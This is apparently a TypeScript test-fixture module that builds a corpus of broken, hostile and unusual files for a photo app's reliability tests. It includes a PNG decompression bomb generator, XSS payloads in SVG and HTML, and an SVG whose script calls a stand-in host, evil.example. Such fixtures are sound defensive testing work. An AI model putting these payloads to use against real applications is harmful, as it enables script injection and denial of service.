/**
 * The bad-files corpus for reliability-bad-files.test.ts, generated at test time from the committed
 * fixtures (tests/fixtures/photos, tests/fixtures/faces) and sharp: broken, hostile, odd and
 * legitimately unusual photos, and file-system traps (link loops, folders and pipes named .jpg).
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

export type Route =
  /** Dropped on the window: bytes in photos:import (the renderer's path). */
  | 'bytes'
  /** Picked with dialogs:openFiles, imported by grant (the desktop app's path). */
  | 'file'
  /** A folder picked with dialogs:openFolder, imported by grant. */
  | 'folder';

export interface BadFile {
  kind: string;
  route: Route;
  /** The name shown to the user. */
  name: string;
  /** Bytes for 'bytes'; a path for 'file' and 'folder'. */
  bytes?: Uint8Array;
  path?: string;
}

const photo = (name: string) => readFileSync(join('tests/fixtures/photos', name));

/** A PNG chunk: length, type, data, CRC over type and data. */
function chunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])), 0);
  return Buffer.concat([head, data, crc]);
}

/** A PNG whose header declares width x height (8-bit RGB) but whose pixel data is only `rows` rows. */
export function pngWithHeader(width: number, height: number, rows = 1): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // colour type RGB
  const raw = Buffer.alloc(rows * (1 + width * 3)); // filter byte 0 + black pixels per row
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', deflateSync(raw)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** Sets the EXIF orientation tag (0x0112) of a JPEG written with an orientation to `value`. */
function patchOrientation(jpeg: Buffer, value: number): Buffer {
  const out = Buffer.from(jpeg);
  // Tag 0x0112, type SHORT (3), count 1, then the value: big-endian ("MM") or little-endian ("II").
  const be = out.indexOf(Buffer.from([0x01, 0x12, 0x00, 0x03, 0x00, 0x00, 0x00, 0x01]));
  if (be >= 0) {
    out.writeUInt16BE(value, be + 8);
    return out;
  }
  const le = out.indexOf(Buffer.from([0x12, 0x01, 0x03, 0x00, 0x01, 0x00, 0x00, 0x00]));
  if (le < 0) throw new Error('no EXIF orientation tag to patch');
  out.writeUInt16LE(value, le + 8);
  return out;
}

/**
 * Five different fixture faces in a 3 + 2 grid on a grey canvas: each 128 px aligned crop is scaled
 * to 300 px (about 100 px between the eyes, above the 64 px the studio needs to edit a face).
 */
async function fiveFaces(): Promise<Buffer> {
  const names = ['face-00-obama-1.jpg', 'face-04-biden-1.jpg', 'face-06-kit-harington-1.jpg', 'face-08-rose-leslie-1.jpg', 'face-10-alex-lacamoire-1.jpg'];
  const tiles = await Promise.all(names.map((n) => sharp(join('tests/fixtures/faces', n)).resize(300, 300).toBuffer()));
  const cells = [[0, 0], [1, 0], [2, 0], [0.5, 1], [1.5, 1]] as const;
  return sharp({ create: { width: 1200, height: 800, channels: 3, background: '#8a8a8a' } })
    .composite(tiles.map((input, i) => ({ input, left: Math.round(50 + cells[i]![0] * 400), top: 50 + cells[i]![1] * 400 })))
    .jpeg({ quality: 92 })
    .toBuffer();
}

/** Builds every file of the corpus under `dir`. Kinds that need a non-root user are left out as root. */
export async function buildCorpus(dir: string): Promise<BadFile[]> {
  mkdirSync(dir, { recursive: true });
  const oneFace = photo('one-face.jpg');
  const rgba = photo('rgba.png');
  const bytes = (kind: string, name: string, b: Buffer | string): BadFile => ({ kind, route: 'bytes', name, bytes: new Uint8Array(Buffer.from(b)) });
  const folder = (name: string) => {
    const path = join(dir, name);
    mkdirSync(path, { recursive: true });
    return path;
  };

  const corrupt = Buffer.from(oneFace);
  // Overwrite 4 KB in the middle of the entropy-coded scan (after the headers, before the end marker).
  for (let i = 0; i < 4096; i++) corrupt[Math.floor(corrupt.length / 2) + i] = (i * 151 + 7) & 0xff;

  const heic = Buffer.concat([
    Buffer.from([0, 0, 0, 0x18]),
    Buffer.from('ftypheic', 'latin1'),
    Buffer.from([0, 0, 0, 0]),
    Buffer.from('mif1heicmiaf', 'latin1'),
    Buffer.alloc(2048, 0x5a),
  ]);

  const files: BadFile[] = [
    bytes('truncated JPEG', 'truncated.jpg', oneFace.subarray(0, Math.floor(oneFace.length * 0.55))),
    bytes('truncated PNG', 'truncated.png', rgba.subarray(0, Math.floor(rgba.length * 0.6))),
    bytes('corrupt JPEG (4 KB overwritten mid-scan)', 'corrupt.jpg', corrupt),
    bytes('zero bytes', 'empty.jpg', Buffer.alloc(0)),
    bytes('30,000 px wide PNG (real pixels)', 'wide.png', await sharp({ create: { width: 30_000, height: 8, channels: 3, background: '#336699' } }).png().toBuffer()),
    bytes('30,000 px wide PNG (header only)', 'wide-header.png', pngWithHeader(30_000, 400)),
    bytes('PNG bomb (19,000 x 19,000 declared, tiny file)', 'bomb.png', pngWithHeader(19_000, 19_000)),
    bytes('1 x 1 image', 'pixel.png', await sharp({ create: { width: 1, height: 1, channels: 3, background: '#ff0000' } }).png().toBuffer()),
    bytes('CMYK JPEG', 'cmyk.jpg', photo('cmyk.jpg')),
    bytes('16-bit PNG', 'deep.png', await sharp(oneFace).toColourspace('rgb16').png().toBuffer()),
    bytes('animated GIF', 'animated.gif', photo('animated.gif')),
    bytes('HEIC (ftypheic header)', 'photo.heic', heic),
    bytes('SVG with <script>', 'drawing.svg', '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><script>alert(1)</script><rect width="64" height="64"/></svg>'),
    bytes('SVG with <script> renamed .jpg', 'drawing.jpg', '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><script>fetch("http://evil.example")</script></svg>'),
    bytes('text renamed .jpg', 'notes.jpg', 'Shopping list: eggs, milk, a camera that takes JPEGs.\n'.repeat(4)),
    bytes('HTML renamed .png', 'page.png', '<!doctype html><html><body><img src=x onerror=alert(1)></body></html>'),
    bytes('PDF renamed .jpg', 'scan.jpg', '%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n'),
    bytes('EXIF orientation 255 (invalid)', 'bad-orientation.jpg', patchOrientation(await sharp(photo('no-face.jpg')).withMetadata({ orientation: 6 }).jpeg().toBuffer(), 255)),
    bytes('photo with no face', 'landscape.jpg', photo('no-face.jpg')),
    bytes('photo with five faces', 'five.jpg', await fiveFaces()),
  ];

  // File-system traps, reached through the desktop dialogs' grants.
  const loopDir = folder('loop-only');
  symlinkSync(join(loopDir, 'b.jpg'), join(loopDir, 'a.jpg'));
  symlinkSync(join(loopDir, 'a.jpg'), join(loopDir, 'b.jpg'));
  files.push({ kind: 'symlink loop (picked file)', route: 'file', name: 'a.jpg', path: join(loopDir, 'a.jpg') });

  const mixed = folder('loop-and-photo');
  symlinkSync(join(mixed, 'y.jpg'), join(mixed, 'x.jpg'));
  symlinkSync(join(mixed, 'x.jpg'), join(mixed, 'y.jpg'));
  mkdirSync(join(mixed, 'folder.jpg'));
  writeFileSync(join(mixed, 'real.jpg'), await sharp(photo('no-face.jpg')).rotate(180).jpeg().toBuffer());
  // A link to a photo elsewhere is followed like a file manager would.
  writeFileSync(join(dir, 'elsewhere.jpg'), await sharp(photo('no-face.jpg')).rotate(90).jpeg().toBuffer());
  symlinkSync(join(dir, 'elsewhere.jpg'), join(mixed, 'link.jpg'));
  files.push({ kind: 'symlink loop + folder named .jpg in an imported folder', route: 'folder', name: 'loop-and-photo', path: mixed });
  files.push({ kind: 'symlink loop only, in an imported folder', route: 'folder', name: 'loop-only', path: loopDir });

  const dirJpg = join(folder('dirs'), 'x.jpg');
  mkdirSync(dirJpg);
  files.push({ kind: 'directory named x.jpg (picked file)', route: 'file', name: 'x.jpg', path: dirJpg });

  const fifo = join(folder('pipes'), 'pipe.jpg');
  execFileSync('mkfifo', [fifo]);
  files.push({ kind: 'named pipe named .jpg (picked file)', route: 'file', name: 'pipe.jpg', path: fifo });
  files.push({ kind: 'device file (/dev/zero, picked)', route: 'file', name: 'zero', path: '/dev/zero' });
  files.push({ kind: 'file deleted after it was picked', route: 'file', name: 'gone.jpg', path: join(dir, 'gone.jpg') });

  if (process.getuid?.() !== 0) {
    const locked = join(folder('locked'), 'locked.jpg');
    writeFileSync(locked, await sharp(photo('no-face.jpg')).flop().jpeg().toBuffer(), { mode: 0o000 });
    files.push({ kind: 'unreadable permissions (picked file)', route: 'file', name: 'locked.jpg', path: locked });
  }

  // A Latin-1 file name (not UTF-8), as old cameras and archives write them.
  const latin = folder('latin1');
  const latinName = Buffer.concat([Buffer.from('caf', 'latin1'), Buffer.from([0xe9]), Buffer.from('.jpg', 'latin1')]);
  writeFileSync(Buffer.concat([Buffer.from(latin + '/'), latinName]), await sharp(photo('no-face.jpg')).flip().jpeg().toBuffer());
  files.push({ kind: 'non-UTF-8 file name in an imported folder', route: 'folder', name: 'latin1', path: latin });
  return files;
}
